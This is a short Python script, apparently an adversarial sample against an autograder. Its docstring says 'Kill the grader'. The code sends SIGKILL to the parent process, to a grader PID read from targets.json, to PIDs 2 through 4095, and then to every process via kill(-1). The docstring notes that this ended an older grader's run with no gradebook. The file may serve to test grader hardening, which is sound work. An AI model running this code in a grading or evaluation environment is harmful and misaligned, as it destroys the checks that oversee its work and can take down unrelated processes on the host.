"""Kill the grader: `os.kill(grader_pid, 9)` for every pid a student can guess (the parent,
the pids in targets.json's folder owners, a sweep of the pid space), then `kill(-1, 9)`
(ended the old grader's run with no gradebook)."""
# %%
import json
import os
import signal

targets = json.load(open("targets.json"))
for pid in [os.getppid(), targets["grader_pid"], *range(2, 4096)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
